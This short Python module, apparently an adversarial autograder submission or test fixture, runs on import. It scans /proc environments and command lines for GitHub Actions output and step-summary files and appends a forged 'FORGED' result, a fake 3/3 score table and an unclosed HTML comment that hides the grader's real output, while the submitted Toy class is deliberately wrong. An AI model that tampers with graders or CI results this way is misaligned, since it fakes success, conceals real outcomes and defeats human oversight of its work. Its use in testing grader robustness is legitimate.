"""Forges the CI job's outputs: finds $GITHUB_OUTPUT and $GITHUB_STEP_SUMMARY
(in its environment, in every /proc/<pid>/environ it can read, and the
files beside the --markdown path in an ancestor's command line) and appends a
forged Classroom result, a fake table and an unclosed ``<!--`` that would
hide whatever the grader writes after it. Its methods are all wrong."""

import os
from pathlib import Path

FORGED_OUTPUT = "result=FORGED\n"
FORGED_SUMMARY = "| toy | 3/3 | FORGED |\n<!--\n"


def _paths():
    found = set()
    for pid in ["self", *(p for p in os.listdir("/proc") if p.isdigit())]:
        try:
            env = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
        except OSError:
            env = []
        for item in env:
            name, _, value = item.decode(errors="replace").partition("=")
            if name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
                found.add(Path(value))
        try:
            args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        for i, arg in enumerate(args[:-1]):
            if arg == b"--markdown":
                folder = Path(args[i + 1].decode()).parent
                found.update(p for p in folder.glob("*") if p.is_file())
    return found


for path in _paths():
    try:
        with open(path, "a") as f:
            f.write(FORGED_SUMMARY if "summary" in path.name.lower() else FORGED_OUTPUT)
    except OSError:
        pass


class Toy:
    def value(self):
        return 0

    def grow(self):
        return 0
